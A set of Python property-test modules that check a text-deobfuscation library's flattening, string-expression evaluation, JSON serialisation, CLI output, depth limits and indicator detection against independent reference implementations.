    shards = [{"name": g, "gen": g, "seconds": secs} for g in GENS]
    shards += [{"name": f"url{i}", "gen": "url", "seconds": secs} for i in range(4)]
    shards += [{"name": f"ioc{i}", "gen": "ioc", "seconds": secs} for i in range(3)]
    shards += [{"name": f"direct{i}", "gen": "direct", "seconds": secs} for i in range(3)]
    return shards


_H = None


def judge(data, depth, ctx, label="replay"):
    global _H
    if _H is None:
        _H = scan.Harness(tap=True)
    case = {"data": runner.hx(data), "depth": depth, "label": label}
    ctx.evaluated()
    try:
        root = _H.scan(data, depth)
    except Exception:  # noqa: BLE001 - C01's business
        ctx.count("scan_raised(C01)")
        return
    before = ctx.counters.get("c12_urls", 0) + ctx.counters.get("c12_windows_paths", 0)

    def report(key, msg):
        ctx.violation(key, f"{msg}; input {data[:100]!r}", case)

    mon_net.check_c12(root, report, ctx.counters, require_presence=(label == "url"), tap=_H.tap)
    if ctx.counters.get("c12_urls", 0) + ctx.counters.get("c12_windows_paths", 0) > before:
        ctx.nontrivial(data)
        ctx.sample_light(case, root)


def judge_direct(r, ctx):
    """The URL helpers called directly (they have no tests of their own)."""
    from multidecoder.decoders import network as nw
    from multidecoder.node import Node
    from vf.gens import netgen

    u = netgen.url(r)
    text = neturl.normalise(u["text"])
    case = {"kind": "direct", "data": runner.hx(text)}
    if not ctx.begin(case):
        return
    ctx.evaluated()
    ctx.count("direct_calls")

    def report(key, msg):
        ctx.violation(key, f"{msg}; direct call on {text[:100]!r}", case)

    try:
        norm, lab = nw.normalize_percent_encoding(u["text"])
        if norm != text or lab != ("escape.percent" if len(norm) < len(u["text"]) else ""):
            report("direct:normalize_percent_encoding", f"normalize_percent_encoding -> {norm[:80]!r}/{lab!r}, reference {text[:80]!r}")
        kids = nw.parse_url(text)
    except ValueError:
        ctx.count("direct_parse_url_rejected")
        return
    except Exception as e:  # noqa: BLE001
        report("direct:" + scan.exc_key(e), f"parse_url raised {scan.exc_text(e)}")
        return
    U = Node("network.url", text, "", 0, len(text), children=kids)
    holder = Node("", text, "", 0, len(text), children=[U])
    mon_net.check_c12_url(U, report, ctx.counters, require_presence=True)
    del holder
    if kids:
        ctx.nontrivial(text)
    # the same helper on the text as written (escapes of unreserved characters still present, e.g. %2e%2e segments)
    raw = u["text"]
    if raw != text:
        try:
            kids2 = nw.parse_url(raw)
        except ValueError:
            return
        except Exception as e:  # noqa: BLE001
            report("direct:" + scan.exc_key(e), f"parse_url raised {scan.exc_text(e)} on {raw[:80]!r}")
            return
        U2 = Node("network.url", raw, "", 0, len(raw), children=kids2)
        holder2 = Node("", raw, "", 0, len(raw), children=[U2])
        ctx.count("direct_calls_on_unnormalised_text")
        mon_net.check_c12_url(U2, lambda k, m: ctx.violation(k, f"{m}; direct call on the un-normalised text {raw[:100]!r}",
                                                             {"kind": "direct", "data": runner.hx(raw)}), ctx.counters, require_presence=False)
        del holder2


def run_shard(spec, ctx):
    common.add_sampler(ctx, every=31)
    r = runner.rng(ctx.seed, ID, spec["name"])
    if spec["gen"] == "direct":
        while not ctx.expired():
            judge_direct(r, ctx)
        return
    for label, data, depth in inputs.generate(spec, r):
        if ctx.expired():
            break
        if not ctx.begin({"data": runner.hx(data), "depth": depth, "label": label}):
            continue
        judge(data, depth, ctx, label)


def replay(case, ctx):
    common.add_sampler(ctx)
    if case.get("kind") == "direct":
        from multidecoder.decoders import network as nw
        from multidecoder.node import Node

        text = runner.unhx(case["data"])
        ctx.evaluated()
        try:
            kids = nw.parse_url(text)
        except ValueError:
            return
        U = Node("network.url", text, "", 0, len(text), children=kids)
        holder = Node("", text, "", 0, len(text), children=[U])
        mon_net.check_c12_url(U, lambda k, m: ctx.violation(k, m, case), ctx.counters, require_presence=True)
        del holder
        return
    judge(runner.unhx(case["data"]), case.get("depth"), ctx, case.get("label", "replay"))
