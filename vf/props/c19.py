"""C19 - flattening substitutes decoded values for their original spans and nothing else."""

from __future__ import annotations

import warnings

from vf import mon_tree, runner, scan, tree
from vf.gens import inputs, treegen
from vf.props import common
from vf.refs import flatten_ref as fr

ID = "C19"
RULE = ("(a) random Node trees (all byte values, string / non-string / non-ASCII types, overlapping and nested children, identity "
        "children, zero-width children, deep chains, some out-of-domain): node.flatten() of EVERY node (each as an outermost "
        "call) compared with an independent reference of the substitution rule; identity trees must flatten to their root "
        "value; query.squash_replace compared with flatten where the rule never skips an overlapping child. (b) every node of "
        "scan results of the default registry over layered / indicator / cmd / mutated-literal inputs; results in which "
        "nothing is decoded must flatten to the input; trees scanned with a small depth limit are flattened, expanded further with "
        "scan_node and flattened again; inputs that are plain BY CONSTRUCTION (nested contexts around plain indicators) must "
        "flatten to themselves whatever the tree claims. distinct_nontrivial = distinct trees (sha1 of canonical form) in "
        "which flatten substituted at least one child.")
ASSUMPTIONS = ["nodes whose children are out of bounds or not ordered by start are outside the property's domain and only counted",
               "RecursionError on trees deeper than ~1000 is C01's finding"]
EXPECTED_WALL = {"quick": 40, "thorough": 300}
REQUIRED = {"flatten_judged": 625, "flatten_substituted": 62, "scan_results_judged": 25, "identity_trees": 12,
            "squash_compared": 62, "quoted_substitutions": 6, "incremental_expansions": 12, "plain_by_construction": 25}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 20 if quick else 200
    shards = [{"name": f"trees{i}", "gen": "trees", "seconds": secs} for i in range(6 if quick else 8)]
    for g in ("matryoshka", "cmd", "seedmut", "url", "ioc", "soup", "repeat", "layer", "echo", "expand", "xorbytes", "plainnest", "overlap"):
        shards.append({"name": g, "gen": g, "seconds": secs})
    return shards


_H = None


def harness():
    global _H
    if _H is None:
        _H = scan.Harness(tap=False)
    return _H


def judge_tree(c, ctx, case):
    from multidecoder.query import squash_replace

    # the statement is about values and spans only: it holds whatever the children's parent references say
    linkage = case.get("linkage", "full")
    root = treegen.build(c, linkage=linkage)
    ctx.count("tree_linkage:" + linkage)
    ctx.evaluated()

    def report(key, msg):
        ctx.violation(key, msg, case)

    before = ctx.counters.get("flatten_substituted", 0)
    mon_tree.check_c19(root, report, ctx.counters)
    if ctx.counters.get("flatten_substituted", 0) > before:
        ctx.nontrivial(repr(c))
    _count_quoted(c, ctx)
    if _all_domain(c):
        if fr.all_identity(c):
            ctx.count("identity_trees")
        if not fr.skips_any(c):
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                got = squash_replace(root.value, root.children)
            ctx.count("squash_compared")
            want = root.flatten()
            if got != want:
                report("squash_replace:differs-from-flatten",
                       f"squash_replace gives {got[:100]!r}, flatten {want[:100]!r} on a tree without overlapping substitutions")


def _all_domain(c):
    stack = [c]
    while stack:
        x = stack.pop()
        if not fr.in_domain(x):
            return False
        stack.extend(x[5])
    return True


def _count_quoted(c, ctx):
    stack = [c]
    while stack:
        x = stack.pop()
        for k in x[5]:
            if k[0].endswith("string") and k[1] != x[1][k[3]:k[4]]:
                ctx.count("quoted_substitutions")
            stack.append(k)


def judge_scan(data, depth, ctx, label):
    h = harness()
    case = {"kind": "scan", "data": runner.hx(data), "depth": depth, "label": label}
    ctx.evaluated()
    try:
        root = h.scan(data, depth)
    except Exception:  # noqa: BLE001 - C01's business
        ctx.count("scan_raised(C01)")
        return

    def report(key, msg):
        ctx.violation(key, f"{msg}; scan of {data[:100]!r}", case)

    before = ctx.counters.get("flatten_substituted", 0)
    mon_tree.check_c19(root, report, ctx.counters, max_nodes=300)
    ctx.count("scan_results_judged")
    c = tree.canon(root)
    _count_quoted(c, ctx)
    if ctx.counters.get("flatten_substituted", 0) > before:
        ctx.nontrivial(data)
    # nothing decoded => flatten is the input
    if _all_domain(c) and fr.all_identity(c):
        ctx.count("scan_nothing_decoded")
        try:
            if root.flatten() != data:
                report("flatten:undecoded-scan-changed", "nothing was decoded but flatten differs from the input")
        except RecursionError:
            pass
    if label == "plainnest":
        # nothing in this input is decoded BY CONSTRUCTION (independent of what the tree claims)
        ctx.count("plain_by_construction")
        try:
            flat = root.flatten()
        except RecursionError:
            flat = data
        if flat.lower() != data.lower():  # up to letter case: a keyword node carries the listed spelling of the keyword
            report("flatten:plain-input-changed", f"an input made of plain indicators only flattens to {flat[:120]!r}")
    ctx.sample_light(case, root)
    # incremental expansion: flatten was just called on every node; expanding the tree further must be reflected
    if depth is not None and 0 < depth <= 3 and root.children:
        try:
            h.md.scan_node(root)
        except Exception:  # noqa: BLE001
            return
        ctx.count("incremental_expansions")
        mon_tree.check_c19(root, lambda k, m: ctx.violation(k + ":after-expansion", f"{m}; scan of {data[:100]!r} with depth "
                                                           f"{depth}, flattened, expanded with scan_node, flattened again", case),
                           ctx.counters, max_nodes=300)


def run_shard(spec, ctx):
    common.add_sampler(ctx)
    r = runner.rng(ctx.seed, ID, spec["name"])
    if spec["gen"] == "trees":
        i = 0
        while not ctx.expired():
            i += 1
            x = r.random()
            if x < 0.70:
                c = treegen.rand_tree(r, in_domain=r.random() < 0.9)
            elif x < 0.85:
                c = treegen.identity_tree(r)
            else:
                c = treegen.chain(r, r.choice([5, 20, 60] if ctx.tier == "quick" else [20, 60, 150, 300]))
            case = {"kind": "tree", "tree": enc(c), "linkage": r.choice(["full", "full", "full", "none", "foreign"])}
            if not ctx.begin(case):
                continue
            judge_tree(c, ctx, case)
            if i % 101 == 1:
                ctx.sample({"tree": enc(c, short=True)})
        return
    for label, data, depth in inputs.generate(spec, r):
        if ctx.expired():
            break
        if depth is None and r.random() < 0.3:
            depth = r.choice([1, 1, 2, 3])
        if not ctx.begin({"kind": "scan", "data": runner.hx(data), "depth": depth, "label": label}):
            continue
        judge_scan(data, depth, ctx, label)


def enc(c, short=False):
    return [c[0], c[1].hex() if not short else repr(c[1][:30]), c[2], c[3], c[4], [enc(k, short) for k in c[5]]]


def dec(j):
    return (j[0], bytes.fromhex(j[1]), j[2], j[3], j[4], tuple(dec(k) for k in j[5]))


def replay(case, ctx):
    common.add_sampler(ctx)
    if case.get("kind") == "tree":
        judge_tree(dec(case["tree"]), ctx, case)
    else:
        judge_scan(runner.unhx(case["data"]), case.get("depth"), ctx, case.get("label", "replay"))
