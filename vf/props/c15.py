"""C15 - string concatenation, reversal and replacement are evaluated exactly."""

from __future__ import annotations

from vf import mon_codec
from vf.gens import codecgen
from vf.props import codec_common as cc

ID = "C15"
RULE = ("(completeness) literals over printable ASCII without quote / back-tick / backslash (lengths 0..14, incl. one-character, repeated "
        "letters and both letter cases): chains of 2-6 literals joined by +, &, &amp; with white space, newlines and _ continuations "
        "(also followed by a further operator and a non-literal), reverse( / reversed( / StrReverse( in any letter case, and the four "
        "replace dialects with overlapping occurrences, replacement containing the pattern, empty replacement, case variants of the "
        "pattern inside the subject, JS flags: one node with the dialect's type and label covering exactly the expression whose value "
        "is the Python-level evaluation; (soundness) every node labelled concatenation / reverse / vba.reverse / replace / "
        "vba.replace met in any workload is re-evaluated from the text it replaced with a small literal parser (texts outside the "
        "literal domain are counted, not judged). Added after the blind seed rounds: any white-space character or run wherever the syntax has optional space, any run of white space / underscores around the operators, a 'big' shard (chains of up to 12000 literals, 140 kB literals), an earlier lone quote character in the text, expressions partially overlapped by a path, pairs of expressions in one text (not next to bare-operator literals). "
        "distinct_nontrivial = distinct inputs with a judged node / case.")
ASSUMPTIONS = ["backslash and back-tick are escape characters of the documented string syntax and lie outside 'no quote characters'",
               "empty results are expected to be absent (the engine drops empty values) and are re-drawn"]
EXPECTED_WALL = {"quick": 50, "thorough": 400}
REQUIRED = {"stacks_judged": 250, "complete:concat": 62, "complete:reverse": 37, "complete:StrReverse": 37, "complete:replace": 37,
            "complete:vbareplace": 37, "complete:psreplace": 37, "complete:jsrereplace": 25, "c15_concatenation": 37, "c15_replace": 37}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 25 if quick else 300
    shards = [{"name": f"complete{i}", "gen": "complete", "seconds": secs} for i in range(10)]
    shards.append({"name": "big", "gen": "big", "seconds": secs})  # expressions longer than any plausible fixed limit
    for g in ("layer", "seedmut", "soup", "ctxdec"):
        shards.append({"name": g, "gen": g, "seconds": secs})
    from vf.gens import skel
    items = [it for it in skel.plan(400 if quick else 4000) if skel.SKELETONS[it[0]][0] in ("concat", "replace", "psreplace", "reverse")]
    shards.append({"name": "skel", "gen": "skel", "items": items})
    return shards


def run_shard(spec, ctx):
    cc.run_shard(ID, spec, ctx, codecgen.c15_case, mon_codec.check_c15)


def replay(case, ctx):
    cc.replay(ID, case, ctx, mon_codec.check_c15)
