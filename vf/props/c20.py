"""C20 - JSON serialisation is lossless and the CLI reports exactly the library's tree."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile

from vf import env, runner, scan, tree
from vf.gens import inputs, treegen
from vf.props import c17 as kwgen
from vf.refs import flatten_ref as fr

ID = "C20"
RULE = ("(library) random Node trees (all byte values, non-ASCII labels, deep nesting, out-of-domain spans): json.loads(tree_to_json(t)) "
        "== own dict rendering; json_to_tree(...) gives a structurally equal tree with child.parent is parent everywhere and "
        "root.parent None; Node.__eq__ agrees with the canonical-form comparison on (t, copy) and on (t, copy mutated in one "
        "field of one descendant / one child added / removed / re-parented preserving pre-order) - every such mutation must "
        "compare unequal. (CLI) `python -m multidecoder` in subprocesses on generated files: --json == tree_to_json(scan(bytes))+"
        "newline for file and stdin; default mode == one line per node in pre-order with the ancestor label chain and escaped "
        "value recomputed by an own walk (zero nodes -> empty output); --replace == root.flatten() when no two substituted "
        "results overlap; --keywords DIR == in-process build_registry(DIR). The CLI child runs under a random hash seed per case; custom keyword files also list indicators that another decoder reports on the same span. "
        "distinct_nontrivial = distinct trees / inputs with at "
        "least one node below the root.")
ASSUMPTIONS = ["json module and repr() of bytes are trusted", "the CLI is started through a launcher that only supplies a stub "
               "multidecoder._version when that generated file is absent from the tree under test"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"json_roundtrips": 625, "eq_mutations": 2500, "eq_mutation:reparent": 25, "cli_runs": 7, "cli_json": 5, "cli_default": 5,
            "cli_replace": 5, "cli_stdin": 5, "cli_keywords": 3, "cli_default_zero_nodes": 1}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 25 if quick else 300
    shards = [{"name": f"trees{i}", "gen": "trees", "seconds": secs} for i in range(4)]
    shards += [{"name": f"cli{i}", "gen": "cli", "seconds": secs} for i in range(12)]
    return shards


def to_dict(c):
    return {"type": c[0], "value": c[1].hex(), "obfuscation": c[2], "start": c[3], "end": c[4], "children": [to_dict(k) for k in c[5]]}


def check_parents(root, report):
    if root.parent is not None:
        report("json:root-parent", "decoded root has a parent")
    for node, parent, _ in tree.preorder(root):
        if node.parent is not parent:
            report("json:parent-links", f"decoded node {node.type!r} has a wrong parent link")
            return


def mutations(c, r):
    """Yield (name, mutated canonical tree) - each differs from c in exactly one respect."""
    nodes = []

    def walk(x, path):
        nodes.append((x, path))
        for i, k in enumerate(x[5]):
            walk(k, path + (i,))

    walk(c, ())

    def replace(path, new):
        def rec(x, p):
            if not p:
                return new
            kids = list(x[5])
            kids[p[0]] = rec(kids[p[0]], p[1:])
            return x[:5] + (tuple(kids),)
        return rec(c, path)

    x, path = r.choice(nodes)
    yield "type", replace(path, (x[0] + "x",) + x[1:])
    yield "value", replace(path, (x[0], x[1] + b"\x00") + x[2:])
    if x[1]:
        flipped = bytes([x[1][0] ^ 0x20]) + x[1][1:]
        yield "value-case", replace(path, (x[0], flipped) + x[2:])
    yield "obfuscation", replace(path, x[:2] + (x[2] + "y",) + x[3:])
    yield "start", replace(path, x[:3] + (x[3] + 1,) + x[4:])
    yield "end", replace(path, x[:4] + (x[4] + 1,) + x[5:])
    yield "child-added", replace(path, x[:5] + (x[5] + (("n", b"v", "", 0, 0, ()),),))
    with_kids = [(n, p) for n, p in nodes if n[5]]
    if with_kids:
        n, p = r.choice(with_kids)
        i = r.randrange(len(n[5]))
        yield "child-removed", replace(p, n[:5] + (n[5][:i] + n[5][i + 1:],))
        if len(n[5]) >= 2 and n[5][0] != n[5][1]:
            yield "children-swapped", replace(p, n[:5] + ((n[5][1], n[5][0]) + n[5][2:],))
    # re-parent preserving the pre-order sequence: the last child X of P (P not the root) becomes P's next sibling
    cands = [(n, p) for n, p in nodes if p and n[5]]
    if cands:
        P, pp = r.choice(cands)
        X = P[5][-1]
        gp_path = pp[:-1]
        gp = c
        for i in gp_path:
            gp = gp[5][i]
        idx = pp[-1]
        newP = P[:5] + (P[5][:-1],)
        kids = gp[5][:idx] + (newP, X) + gp[5][idx + 1:]
        yield "reparent", replace(gp_path, gp[:5] + (kids,))


def judge_tree(c, ctx, case, r):
    from multidecoder.json_conversion import json_to_tree, tree_to_json

    ctx.evaluated()

    def report(key, msg):
        ctx.violation(key, msg, case)

    t = treegen.build(c)
    try:
        js = tree_to_json(t)
        loaded = json.loads(js)
    except RecursionError:
        ctx.count("json_recursion(C01)")
        return
    except Exception as e:  # noqa: BLE001
        report("json:encode:" + scan.exc_key(e), f"tree_to_json / json.loads raised {scan.exc_text(e)}")
        return
    if loaded != to_dict(c):
        missing = [k for k in to_dict(c) if k not in loaded] if isinstance(loaded, dict) else ["?"]
        report("json:content" + (":missing-" + missing[0] if missing else ""), "JSON does not record type/value(hex)/obfuscation/start/end/children faithfully")
    try:
        back = json_to_tree(js)
        if tree.canon(back) != c:
            report("json:roundtrip", "json_to_tree(tree_to_json(t)) is not structurally equal to t: " + (tree.first_diff(tree.canon(back), c) or "?"))
        check_parents(back, report)
        if not (back == t):
            report("eq:roundtrip-unequal", "decoded tree does not compare == to the original")
    except Exception as e:  # noqa: BLE001
        report("json:decode:" + scan.exc_key(e), f"json_to_tree raised {scan.exc_text(e)}")
    ctx.count("json_roundtrips")
    # kwargs pass-through
    if r.random() < 0.05:
        try:
            if json.loads(tree_to_json(t, indent=2, sort_keys=True)) != to_dict(c):
                report("json:kwargs", "tree_to_json(indent=2, sort_keys=True) changed the content")
        except Exception as e:  # noqa: BLE001
            report("json:kwargs:" + scan.exc_key(e), f"tree_to_json with kwargs raised {scan.exc_text(e)}")
    # structural equality
    copy = treegen.build(c)
    if not (t == copy) or (t != copy):
        report("eq:copy-unequal", "a structural copy compares unequal")
    for name, m in mutations(c, r):
        if m == c:
            continue
        other = treegen.build(m)
        ctx.count("eq_mutations")
        ctx.count("eq_mutation:" + name)
        if t == other or not (t != other):
            report(f"eq:blind-to:{name}", f"trees differing in '{name}' of one descendant compare equal")
    if c[5]:
        ctx.nontrivial(repr(c))


# ---------------------------------------------------------------------------
# CLI

LAUNCHER = (
    "import sys, types, runpy\n"
    "sys.path.insert(0, sys.argv.pop(1))\n"
    "try:\n"
    "    import multidecoder._version\n"
    "except ImportError:\n"
    "    m = types.ModuleType('multidecoder._version'); m.version = m.__version__ = '0+verif'\n"
    "    sys.modules['multidecoder._version'] = m\n"
    "sys.argv[0] = 'multidecoder'\n"
    "runpy.run_module('multidecoder', run_name='__main__')\n"
)


def run_cli(args, stdin=None, hashseed="0"):
    e = dict(os.environ, PYTHONPATH=env.REPO_SRC, PYTHONDONTWRITEBYTECODE="1", PYTHONHASHSEED=hashseed, PYTHONWARNINGS="ignore")
    p = subprocess.run([env.PYTHON, "-c", LAUNCHER, env.REPO_SRC] + args, input=stdin if stdin is not None else b"",
                       capture_output=True, env=e, timeout=300)
    return p.returncode, p.stdout, p.stderr


def expected_summary(root):
    lines = []
    # ancestors come from the walk itself (the child lists), not from the nodes' parent references
    holder = {id(root): None}
    for node, parent, _ in tree.preorder(root):
        holder[id(node)] = parent
        chain = []
        anc = []
        n = node
        while n is not None:
            anc.append(n)
            n = holder.get(id(n))
        for a in reversed(anc):  # root first
            if a.obfuscation:
                chain.append(">" + a.obfuscation)
            if a.type:
                chain.append(a.type)
        lines.append("/".join(chain) + " " + repr(bytes(node.value))[2:-1])
    return lines


_MD = None


def judge_cli(data, ctx, case, r, workdir, kwdir=None, kwfiles=None):
    from multidecoder.json_conversion import tree_to_json
    from multidecoder.multidecoder import Multidecoder
    from multidecoder.registry import build_registry

    global _MD
    ctx.evaluated()

    def report(key, msg):
        ctx.violation(key, f"{msg}; input {data[:80]!r}", case)

    if kwdir:
        md = Multidecoder(build_registry(kwdir))
    else:
        if _MD is None:
            _MD = Multidecoder()
        md = _MD
    try:
        root = md.scan(data)
    except Exception:  # noqa: BLE001 - C01's business
        ctx.count("scan_raised(C01)")
        return
    try:
        want_json = tree_to_json(root) + "\n"
    except RecursionError:
        ctx.count("json_recursion(C01)")
        return
    path = os.path.join(workdir, "input.bin")
    with open(path, "wb") as f:
        f.write(data)
    base_args = ["--keywords", kwdir] if kwdir else []
    mode = case["mode"]
    use_stdin = case["stdin"]
    args = list(base_args)
    if mode == "json":
        args.append(r.choice(["--json", "-j"]))
    elif mode == "replace":
        args.append(r.choice(["--replace", "-r"]))
    if not use_stdin:
        args.append(path)
    # the CLI is its own process: its hash seed is not the library caller's
    rc, out, err = run_cli(args, stdin=data if use_stdin else None, hashseed=str(case.get("hashseed", 0)))
    ctx.count("cli_runs")
    ctx.count("cli_" + mode)
    if use_stdin:
        ctx.count("cli_stdin")
    if kwdir:
        ctx.count("cli_keywords")
    if rc != 0:
        report(f"cli:{mode}:exit", f"CLI exited {rc}: {err[-300:]!r}")
        return
    if mode == "json":
        if out.decode("utf-8", "replace") != want_json:
            try:
                same_tree = json.loads(out) == json.loads(want_json)
            except ValueError:
                same_tree = False
            report("cli:json:" + ("framing" if same_tree else "different-tree"),
                   f"--json output differs from tree_to_json(scan(bytes)) ({len(out)} vs {len(want_json)} bytes)")
    elif mode == "default":
        want_lines = expected_summary(root)
        want = "".join(line + "\n" for line in want_lines).encode()
        if not want_lines:
            ctx.count("cli_default_zero_nodes")
        if out != want:
            got_lines = out.decode("utf-8", "replace").split("\n")
            kind = "line-count" if len(out.splitlines()) != len(want_lines) or (not want_lines and out) else "line-content"
            report(f"cli:default:{kind}", f"default output has {len(out.splitlines())} line(s) ({out[:80]!r}), expected {len(want_lines)} "
                                          f"(first expected: {want_lines[:1]!r}, first got: {got_lines[:1]!r})")
    else:
        c = tree.canon(root)
        dom = all(fr.in_domain(x) for x in _all(c))
        if dom and not fr.skips_any(c):
            try:
                want = root.flatten()
            except RecursionError:
                return
            ctx.count("cli_replace_compared")
            if out != want:
                report("cli:replace", f"--replace output {out[:80]!r} differs from root.flatten() {want[:80]!r}")
        else:
            ctx.count("cli_replace_overlap_or_out_of_domain(skipped)")
    if root.children:
        ctx.nontrivial(data + mode.encode())
    if ctx.counters.get("cli_runs", 0) % 7 == 1:
        ctx.sample({"input": repr(data[:80]), "mode": mode, "stdin": use_stdin, "keywords_dir": bool(kwdir), "stdout_bytes": len(out),
                    "nodes": sum(1 for _ in tree.preorder(root))})


def _all(c):
    stack = [c]
    while stack:
        x = stack.pop()
        yield x
        stack.extend(x[5])


def run_shard(spec, ctx):
    r = runner.rng(ctx.seed, ID, spec["name"])
    if spec["gen"] == "trees":
        i = 0
        while not ctx.expired():
            i += 1
            x = r.random()
            if x < 0.75:
                c = treegen.rand_tree(r, in_domain=r.random() < 0.7)
            elif x < 0.9:
                c = treegen.identity_tree(r)
            else:
                c = treegen.chain(r, r.choice([5, 30, 100, 200]))
            from vf.props.c19 import enc
            case = {"kind": "tree", "tree": enc(c)}
            if not ctx.begin(case):
                continue
            judge_tree(c, ctx, case, r)
            if i % 307 == 1:
                ctx.sample({"tree": enc(c, short=True)})
        return
    workdir = tempfile.mkdtemp(prefix="vf_c20_", dir=env.scratch_root())
    try:
        gens = [inputs.generate({"gen": g}, r) for g in ("seedmut", "layer", "ioc", "url", "ctxdec", "soup", "cmd", "overlap", "echo", "codec")]
        i = 0
        while not ctx.expired():
            i += 1
            x = r.random()
            if x < 0.08:
                data = r.choice([b"", b"\n", b"zzz qqq", b"\x00\x01\x02", b"lorem ipsum"])
            elif x < 0.2:
                data = bytes(r.randrange(256) for _ in range(r.randint(1, 300)))
            else:
                data = next(r.choice(gens))[1]
            mode = r.choice(["json", "json", "default", "default", "replace"])
            if r.random() < 0.15:
                # bundled keywords listed in several letter cases
                data = data + b" " + r.choice([b"strlen StrLen", b"[ENTER] [Enter]", b"GetModuleFileName getmodulefilename", b"STRLEN [enter]"])
            case = {"kind": "cli", "data": runner.hx(data), "mode": mode, "stdin": r.random() < 0.35,
                    "hashseed": r.choice([0, r.randrange(1, 2 ** 32 - 1), r.randrange(1, 2 ** 32 - 1)])}
            kwdir = None
            if r.random() < 0.12:
                kwdir = os.path.join(workdir, f"kw{i}")
                files = kwgen.make_kw_dir(r, kwdir)
                case["kwfiles"] = [[name, raw.hex()] for name, _, raw in files]
                words = [k for _, ks, _ in files for k in ks]
                if words:
                    data = data + b" " + b" ".join(r.choice(words) for _ in range(3))
                    case["data"] = runner.hx(data)
                if r.random() < 0.3:
                    # a keyword file whose name is not valid UTF-8 (labels with lone surrogates): --json must stay valid, lossless JSON
                    name = os.fsdecode(r.choice([b"caf\xe9.name", b"\xff\xfelist", b"k\x80w"])) + str(i)
                    word = b"qzxw" + str(i).encode()
                    with open(os.path.join(kwdir, name), "wb") as f:
                        f.write(word + b"\n")
                    case["kwfiles"].append([name, (word + b"\n").hex()])
                    data = data + b" " + word
                    case["data"] = runner.hx(data)
                    case["mode"] = mode = "json"  # the text modes write labels through the locale's encoder: environment, not library
                    ctx.count("cli_keyword_file_name_not_utf8")
                if r.random() < 0.5:
                    # a listed keyword that is also, letter for letter, another decoder's result (same span: the order of
                    # the registry decides which one is the parent)
                    from vf.gens import netgen
                    both = [netgen.exe_name(r), netgen.domain(r), netgen.ipv4(r), netgen.email(r)]
                    name = "iocs%d" % i
                    with open(os.path.join(kwdir, name), "wb") as f:
                        f.write(b"\n".join(both) + b"\n")
                    case["kwfiles"].append([name, (b"\n".join(both) + b"\n").hex()])
                    data = data + b" " + b" ".join(r.sample(both, 2))
                    case["data"] = runner.hx(data)
            if not ctx.begin(case):
                continue
            judge_cli(data, ctx, case, r, workdir, kwdir)
            if kwdir:
                shutil.rmtree(kwdir, ignore_errors=True)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


def replay(case, ctx):
    r = runner.rng(ctx.seed, ID, "replay")
    if case.get("kind") == "tree":
        from vf.props.c19 import dec
        for _ in range(20):
            judge_tree(dec(case["tree"]), ctx, case, r)
        return
    workdir = tempfile.mkdtemp(prefix="vf_c20_", dir=env.scratch_root())
    try:
        kwdir = None
        if case.get("kwfiles"):
            kwdir = os.path.join(workdir, "kw")
            os.makedirs(kwdir)
            for name, rawhex in case["kwfiles"]:
                with open(os.path.join(kwdir, name), "wb") as f:
                    f.write(bytes.fromhex(rawhex))
        judge_cli(runner.unhx(case["data"]), ctx, case, r, workdir, kwdir)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
