"""C07 - engine property, see vf/props/engine_common.py and vf/mon_engine.py."""

from __future__ import annotations

from vf.props import engine_common as ec

ID = "C07"
SEL = ec.Sel(c07=True)
RULE = ("Monitor 1 (activation tap): every scan_node activation receives depth_limit == k - nesting level; decoders are called "
        "only by activations with depth_limit > 0, never on a node that already has children, exactly |registry| calls per "
        "searched node; k<=0 => no decoder call and a bare root. Monitor 2: scan(data,k) and scan(data,k+1) (fresh scanners): "
        "tree(k) must equal tree(k+1) with every node attached by the activations at nesting level k removed, and every "
        "child list of tree(k) must be an order-preserving sub-list of that of tree(k+1). Workloads: synthetic registries "
        "incl. self-reproducing decoders (every decoded value decodable again) with k up to 12, complete small scopes with "
        "k in 0..3, default registry on layered stacks of height <= 24 and other inputs with k in -5..12. "
        "'synth-wide' shard: synthetic registries with 300..25000 one-byte decodable fragments in one text, each three decodings deep, k = 1..5 (up to 75001 searches per scan: per-scan / per-scanner budgets); random registries list the same decoder object twice 12 % of the time. "
        "distinct_nontrivial = distinct cases with a non-empty result.")
ASSUMPTIONS = ["pairs are only compared when the hit stream of the k-run is well formed"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"c07_pairs": 1250, "c07_pairs_strictly_larger": 125, "c07_scans_cut_by_limit": 125, "c07_k<=0": 12,
            "c07_searches_level>=1": 125, "real_scans": 37}


def plan(tier, seed):
    return ec.plan(ID, tier, seed, stride3=40, also=("psstack",))  # stacked encoded commands: a decoder must not unwrap further layers itself


def run_shard(spec, ctx):
    ec.run_shard(ID, SEL, spec, ctx)


def replay(case, ctx):
    ec.replay(ID, SEL, case, ctx)
