"""C11 - plain indicators are found at any offset with exact span and canonical value."""

from __future__ import annotations

import ntpath

from vf import mon_layers, runner, scan, tree
from vf.gens import netgen
from vf.gens import pe as pegen
from vf.props import common
from vf.refs import neturl

ID = "C11"
RULE = ("cases = prefix + delimiter + indicator + delimiter + suffix with ground truth by construction: canonical IPv4 (no all-zero / .0 / "
        ".255), LDH domains >= 7 chars under sampled registered TLDs (documented false-positive shapes avoided), e-mail, http/https/ftp "
        "URLs (value = independent percent-normalisation), POSIX paths, the documented Windows path shapes (value = ntpath.normpath), "
        ".exe/.dll names, CreateObject( ... ) to its balancing parenthesis, hand-assembled valid PE images; offsets 0, 1, 2, 7, 13, "
        "63-65, 200, 1000; neutral prefixes/suffixes verified neutral by scanning (incl. words containing 'MZ' and heuristic trigger "
        "words placed AFTER the indicator). Oracle: a node with the documented type, canonical value and exactly the indicator's "
        "absolute span; metamorphic: the same indicator at another offset / with more neutral text yields the same sub-tree. "
        "A 3 % share of the indicators is far longer than any fixed limit (URLs with up to 6000 path segments, 6000-segment POSIX / Windows paths, long e-mail local parts, executable names and domains). "
        "distinct_nontrivial = distinct judged (kind, input) cases.")
ASSUMPTIONS = ["for .dll names both executable.filename and executable.library.filename are accepted",
               "URL delimiters are paired as the documentation of find_urls describes; URLs never end in ' ) , . ;"]
EXPECTED_WALL = {"quick": 50, "thorough": 400}
KINDS = ["ipv4", "domain", "email", "url", "posix", "windows", "exe", "createobject", "pe"]
